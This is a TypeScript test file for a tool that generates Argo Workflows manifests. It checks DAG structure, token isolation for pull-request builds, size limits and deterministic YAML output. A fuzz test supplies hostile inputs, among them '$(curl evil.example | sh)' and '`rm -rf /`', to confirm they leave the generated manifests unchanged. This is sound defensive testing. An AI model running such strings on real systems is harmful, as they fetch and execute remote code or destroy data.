import assert from "node:assert/strict";
import fc from "fast-check";
import { parse, parseAllDocuments } from "yaml";
import { WorkflowTemplate as WorkflowTemplateModel } from "@kubernetes-models/argo-workflows/argoproj.io/v1alpha1/WorkflowTemplate";
import { AphexError, ExitCode } from "../models/errors.ts";
import { configTable, parseRaw, rawConfig, rawEnvironment } from "../tests/generate_table.ts";
import { toYamlDocument } from "./yaml.ts";
import { generateManifests, MAX_MANIFEST_BYTES } from "./generate.ts";
import { buildTopology, pipelineSteps, topologyHash } from "./topology.ts";
import { buildValidateWorkflowTemplate, buildWorkflowTemplate } from "./workflow_template.ts";
import { TOPOLOGY_HASH_ANNOTATION } from "./labels.ts";
import type { DagTask, Manifest } from "./types.ts";

const TABLE = configTable();

function allDocuments(config = TABLE["three-envs-approval-hooks"]!): Manifest[] {
  return generateManifests(config).flatMap((f) => f.documents);
}

/** Every array under a `command`, `args` or `source` key anywhere in a manifest, with its path. */
function executables(node: unknown, path = ""): { path: string; key: string; value: unknown }[] {
  if (Array.isArray(node)) return node.flatMap((v, i) => executables(v, `${path}[${i}]`));
  if (node === null || typeof node !== "object") return [];
  return Object.entries(node).flatMap(([k, v]) => [
    ...(["command", "args", "source", "script"].includes(k)
      ? [{ path: `${path}.${k}`, key: k, value: v }]
      : []),
    ...executables(v, `${path}.${k}`),
  ]);
}

Deno.test("every table configuration generates WorkflowTemplates valid for the typed Argo models", () => {
  for (const [name, config] of Object.entries(TABLE)) {
    const templates = generateManifests(config).flatMap((f) => f.documents).filter((d) =>
      d.kind === "WorkflowTemplate"
    );
    assert.equal(templates.length, config.pipeline.pullRequests.enabled ? 2 : 1, name);
    for (const t of templates) {
      // Validate the object as read back from YAML, i.e. exactly what kubectl would send.
      const model = new WorkflowTemplateModel(parse(toYamlDocument(t)));
      assert.doesNotThrow(() => model.validate(), `${name}: ${t.metadata.name}`);
    }
  }
});

Deno.test("no {{…}} in any command, argument or script, no script templates, no shell", () => {
  for (const [name, config] of Object.entries(TABLE)) {
    const docs = generateManifests(config).flatMap((f) => f.documents);
    const found = executables(docs);
    assert.ok(found.length > 0, `${name}: expected containers`);
    for (const { path, key, value } of found) {
      assert.notEqual(key, "script", `${name}${path}: script templates are forbidden`);
      if (key === "source" && !Array.isArray(value) && typeof value === "object") continue; // Sensor trigger source
      assert.notEqual(key, "source", `${name}${path}: script sources are forbidden`);
      assert.ok(Array.isArray(value), `${name}${path} must be an argv array`);
      for (const arg of value as string[]) assert.ok(!arg.includes("{{"), `${name}${path}: ${arg}`);
      if (key === "command") {
        assert.deepEqual(value, ["aphex"], `${name}${path}: every step runs the aphex binary`);
      }
      const argv = (value as string[]).join(" ");
      assert.ok(
        !/\b(sh|bash|zsh|dash)\b.*\s-c\b/.test(argv),
        `${name}${path}: shell invocation ${argv}`,
      );
    }
  }
});

Deno.test("the DAG is preflight → build → pipeline-update → per env [approve] → deploy → [test], each after the previous", () => {
  const wt = buildWorkflowTemplate(TABLE["three-envs-approval-hooks"]!);
  const dagOf = (name: string) => wt.spec.templates.find((t) => t.name === name)!.dag!;
  const row = (t: DagTask) => [t.name, t.template, t.depends ?? null];
  assert.deepEqual(dagOf(wt.spec.entrypoint).tasks.map(row), [
    ["preflight", "preflight", null],
    ["build", "build", "preflight"],
    ["pipeline-update", "pipeline-update", "build"],
    ["environments", "environments", "pipeline-update"],
  ]);
  // A run superseded by its self-update skips every environment with one condition.
  const environments = dagOf(wt.spec.entrypoint).tasks[3]!;
  assert.equal(
    environments.when,
    "{{tasks.pipeline-update.outputs.parameters.superseded}} != true",
  );
  assert.deepEqual(dagOf("environments").tasks.map(row), [
    ["deploy-dev", "deploy", null],
    ["test-dev", "test", "deploy-dev"],
    ["deploy-staging", "deploy", "test-dev"],
    ["test-staging", "test", "deploy-staging"],
    ["deploy-prod", "deploy", "test-staging"],
    ["test-prod", "test", "deploy-prod"],
  ]);
  // deploy-<env>: plan → approve (only when the plan's review gate says so) → execute.
  const deploy = dagOf("deploy");
  assert.deepEqual(deploy.tasks.map(row), [
    ["plan", "plan", null],
    ["approve", "approval", "plan"],
    ["execute", "execute", "approve"],
  ]);
  assert.equal(deploy.tasks[1]!.when, "{{tasks.plan.outputs.parameters.approve}} == true");
  // test-<env>: run → rollback, only when the tests failed.
  assert.deepEqual(dagOf("test").tasks.map(row), [
    ["run", "run-tests", null],
    ["rollback", "rollback", "run.Failed"],
  ]);
  assert.deepEqual(
    wt.spec.templates.map((t) => t.name),
    [
      "pipeline",
      "environments",
      "preflight",
      "build",
      "pipeline-update",
      "deploy",
      "plan",
      "approval",
      "approval-wait",
      "approval-check",
      "execute",
      "test",
      "run-tests",
      "rollback",
      "report",
    ],
  );
  const update = wt.spec.templates.find((t) => t.name === "pipeline-update")!;
  assert.deepEqual(update.outputs, {
    parameters: [{
      name: "superseded",
      valueFrom: { path: "/tmp/aphex/outputs/superseded", default: "false" },
    }],
  });
  const env = Object.fromEntries(update.container!.env!.map((e) => [e.name, e.value]));
  assert.equal(env.APHEX_OUTPUTS_DIR, "/tmp/aphex/outputs");
  assert.equal(env.APHEX_TOPOLOGY_HASH, wt.metadata.annotations![TOPOLOGY_HASH_ANNOTATION]);
  const noTests = buildWorkflowTemplate(TABLE["no-tests"]!);
  const names = noTests.spec.templates.map((t) => t.name);
  assert.ok(!names.includes("test"), names.join(","));
  assert.ok(pipelineSteps(buildTopology(TABLE["no-tests"]!)).every((s) => s.kind !== "test"));
});

Deno.test("WorkflowTemplate: mutex, retry on errors only, deadlines, ttl, podGC, onExit report, labels, hash", () => {
  const config = TABLE["one-env"]!;
  const wt = buildWorkflowTemplate(config);
  assert.equal(wt.apiVersion, "argoproj.io/v1alpha1");
  assert.deepEqual(wt.spec.synchronization, { mutexes: [{ name: "aphex-shop" }] });
  assert.equal(wt.spec.onExit, "report");
  assert.ok(wt.spec.ttlStrategy && wt.spec.podGC && wt.spec.activeDeadlineSeconds);
  assert.equal(wt.metadata.labels?.["app.kubernetes.io/managed-by"], "aphex");
  assert.equal(wt.metadata.labels?.["app.kubernetes.io/name"], "shop");
  assert.equal(wt.metadata.annotations?.[TOPOLOGY_HASH_ANNOTATION], topologyHash(config));
  for (const t of wt.spec.templates.filter((t) => t.container)) {
    assert.deepEqual(t.retryStrategy, { retryPolicy: "OnError", limit: "2" }, t.name);
    assert.match(t.activeDeadlineSeconds ?? "", /^[1-9][0-9]*$/, t.name);
    const env = Object.fromEntries(t.container!.env.map((e) => [e.name, e.value]));
    assert.equal(env.APHEX_COMMIT_SHA, "{{workflow.parameters.commit-sha}}");
    assert.equal(env.APHEX_BRANCH, "{{workflow.parameters.ref}}");
    assert.equal(env.APHEX_WORKFLOW_NAME, "{{workflow.name}}");
    assert.equal(env.APHEX_REPO_URL, "https://github.com/example-org/shop.git");
    assert.equal(env.APHEX_ARTIFACT_BUCKET, "shop-artifacts");
  }
  const report = wt.spec.templates.find((t) => t.name === "report")!;
  assert.deepEqual(report.container!.args, ["report"]);
  const yaml = toYamlDocument(wt);
  assert.match(yaml, /limit: "2"\n/);
  assert.match(yaml, /activeDeadlineSeconds: "3600"\n/);
  assert.ok(
    yaml.startsWith("apiVersion: argoproj.io/v1alpha1\nkind: WorkflowTemplate\nmetadata:\n"),
  );
});

Deno.test("PR validation template: preflight → build → synth under its own service account, no deploy", () => {
  const docs = allDocuments();
  const validate = docs.find((d) =>
    d.metadata.name === "shop-validate" && d.kind === "WorkflowTemplate"
  ) as
    | ReturnType<typeof buildWorkflowTemplate>
    | undefined;
  assert.ok(validate);
  assert.equal(validate.spec.serviceAccountName, "shop-validate");
  const args = validate.spec.templates.flatMap((t) => t.container?.args ?? []);
  assert.deepEqual(args, ["preflight", "build", "synth", "report"]);
  // Pull-request code never sees the API token; only the report handler gets it.
  const tokenIn = (config: Parameters<typeof buildValidateWorkflowTemplate>[0]) =>
    buildValidateWorkflowTemplate(config).spec.templates
      .filter((t) => t.container?.env.some((e) => e.name === "APHEX_GITHUB_TOKEN"))
      .map((t) => t.name);
  const withToken = structuredClone(TABLE["three-envs-approval-hooks"]!);
  withToken.pipeline.github!.apiToken = { name: "gh", key: "token" };
  assert.deepEqual(tokenIn(withToken), ["report"]);
  // (approval-check only compares two times: it checks nothing out and gets no token.)
  const deployTemplates = buildWorkflowTemplate(withToken).spec.templates.filter((t) =>
    t.container && t.name !== "approval-check"
  );
  assert.ok(
    deployTemplates.every((t) => t.container!.env.some((e) => e.name === "APHEX_GITHUB_TOKEN")),
  );
  assert.ok(!allDocuments(TABLE["one-env"]!).some((d) => d.metadata.name === "shop-validate"));
});

function templateBytesPerEnvironment(nameLength: number): number {
  const sizeOf = (n: number) => {
    const envs = Array.from(
      { length: n },
      (_, i) =>
        rawEnvironment(`e${String(i).padStart(nameLength - 1, "0")}`, {
          approval: true,
          stacks: 10,
        }),
    );
    // Worst case: an API token is configured, so the environment list for commit statuses is in.
    const raw = rawConfig(envs);
    raw.pipeline!.github!.apiToken = { name: "github-token", key: "token" };
    return generateManifests(parseRaw(raw)).find((f) => f.file === "workflow-template.yaml")!.bytes;
  };
  return (sizeOf(101) - sizeOf(1)) / 100;
}

Deno.test("the template grows by at most 600 bytes per environment (approval + deploy + test, 12-char names)", () => {
  const perEnv = templateBytesPerEnvironment(12);
  assert.ok(perEnv <= 600, `${perEnv} bytes per environment`);
  // Worst case, 40-character names (the schema's maximum): every name appears 8 times in the DAG,
  // plus once in the `environments` parameter (commit statuses).
  const worst = templateBytesPerEnvironment(40);
  assert.ok(worst <= perEnv + 9 * 28 + 8, `${worst} bytes per environment with 40-character names`);
});

Deno.test("a manifest over the size limit fails with a clear usage error", () => {
  const config = TABLE["fifty-envs"]!;
  assert.throws(
    () => generateManifests(config, { maxManifestBytes: 10_000 }),
    (e: unknown) =>
      e instanceof AphexError && e.exitCode === ExitCode.Usage &&
      /WorkflowTemplate shop would be \d+ bytes, over the 10000-byte limit/.test(e.message) &&
      e.message.includes("50 environments are configured, "),
  );
  assert.equal(MAX_MANIFEST_BYTES, 1048576);
  // The real limit: 3,000 environments with 40-character names exceed 1 MiB.
  const envs = Array.from(
    { length: 3000 },
    (_, i) => rawEnvironment(`e${String(i).padStart(39, "0")}`, { stacks: 1 }),
  );
  assert.throws(() => generateManifests(parseRaw(rawConfig(envs))), /over the 1048576-byte limit/);
});

Deno.test("generation is deterministic and every file is valid multi-document YAML without aliases", () => {
  for (const [name, config] of Object.entries(TABLE)) {
    const a = generateManifests(config);
    const b = generateManifests(structuredClone(config));
    assert.deepEqual(a.map((f) => f.text), b.map((f) => f.text), name);
    for (const f of a) {
      assert.ok(
        !/(^|\s)[&*][A-Za-z0-9]/m.test(f.text.replace(/"[^"\n]*"/g, "")),
        `${name}/${f.file}: alias`,
      );
      const docs = parseAllDocuments(f.text);
      assert.equal(docs.length, f.documents.length, `${name}/${f.file}`);
      docs.forEach((d, i) => {
        assert.equal(d.errors.length, 0);
        const js = d.toJS();
        assert.deepEqual(Object.keys(js).slice(0, 3), ["apiVersion", "kind", "metadata"]);
        assert.deepEqual(js, JSON.parse(JSON.stringify(f.documents[i])));
      });
    }
  }
});

Deno.test("the topology hash changes with the topology only", () => {
  const base = rawConfig([rawEnvironment("dev"), rawEnvironment("prod")]);
  const hash = topologyHash(parseRaw(base));
  assert.match(hash, /^sha256:[0-9a-f]{64}$/);
  const variants = [
    rawConfig([rawEnvironment("prod"), rawEnvironment("dev")]),
    rawConfig([rawEnvironment("dev"), rawEnvironment("prod", { approval: true })]),
    rawConfig([rawEnvironment("dev", { tests: false }), rawEnvironment("prod")]),
    rawConfig([rawEnvironment("dev")]),
    { ...base, pipeline: { ...base.pipeline, image: "ghcr.io/aphex-dev/aphex:0.2.0" } },
  ];
  for (const v of variants) assert.notEqual(topologyHash(parseRaw(v)), hash);
  const sameTopology = rawConfig([
    rawEnvironment("dev", { stacks: 5, hooks: true }),
    rawEnvironment("prod"),
  ]);
  sameTopology.build.commands = ["make all"];
  assert.equal(topologyHash(parseRaw(sameTopology)), hash);
});

const HOSTILE = fc.oneof(
  fc.constantFrom(
    "$(curl evil.example | sh)",
    "`rm -rf /`",
    "'; exit 1; '",
    '" && echo pwned "',
    "line1\nline2",
    "{{workflow.name}}",
    "{{workflow.parameters.commit-sha}}",
    "${APHEX_GITHUB_TOKEN}",
    "a: b\n- c",
  ),
  fc.string({ minLength: 1, maxLength: 40 }).filter((s) => /\S/.test(s)),
);

Deno.test("fuzz: hostile commands, hooks and test commands never change a generated byte", () => {
  const config = TABLE["three-envs-approval-hooks"]!;
  const expected = generateManifests(config).map((f) => f.text);
  fc.assert(
    fc.property(HOSTILE, HOSTILE, HOSTILE, HOSTILE, (build, test, pre, post) => {
      const hostile = structuredClone(config);
      hostile.build.commands = [build, "npm ci"];
      for (const env of hostile.environments) {
        env.tests = { commands: [test] };
        env.hooks = { preDeploy: [pre], postDeploy: [post] };
      }
      assert.deepEqual(generateManifests(hostile).map((f) => f.text), expected);
    }),
    { numRuns: 200 },
  );
});

Deno.test("PR validation: one shared workspace volume, no AWS bucket, no token, preflight skips AWS", () => {
  const wt = buildValidateWorkflowTemplate(TABLE["pull-requests-forks"]!);
  assert.equal(wt.spec.volumes, undefined, "no per-pod emptyDir: the steps share one volume");
  assert.deepEqual(
    wt.spec.volumeClaimTemplates?.map((v) => [v.metadata.name, v.spec.accessModes]),
    [
      ["workspace", ["ReadWriteOnce"]],
    ],
  );
  for (const stage of ["preflight", "build", "synth"]) {
    const t = wt.spec.templates.find((x) => x.name === stage)!;
    const env = Object.fromEntries(t.container!.env!.map((e) => [e.name, e.value ?? e.valueFrom]));
    assert.equal(env.APHEX_ARTIFACT_BUCKET, undefined, `${stage}: no bucket`);
    assert.equal(env.APHEX_GITHUB_TOKEN, undefined, `${stage}: no token`);
    assert.deepEqual(t.container!.volumeMounts, [{ name: "workspace", mountPath: "/workspace" }]);
    assert.equal(env.APHEX_SKIP_AWS, stage === "preflight" ? "true" : undefined, stage);
  }
});
